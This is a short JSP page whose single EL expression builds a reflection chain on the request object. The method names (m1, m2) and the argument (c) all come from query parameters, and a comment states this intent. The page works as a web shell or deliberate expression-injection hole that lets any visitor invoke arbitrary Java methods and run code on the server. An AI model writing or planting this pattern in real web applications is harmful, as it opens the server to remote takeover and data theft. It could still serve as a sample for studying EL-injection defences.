<%@ page isELIgnored="false" %>
<%-- every step of the reflection chain comes from the query string --%>
${pageContext.request.getClass()[param.m1]()[param.m2](param.c)}
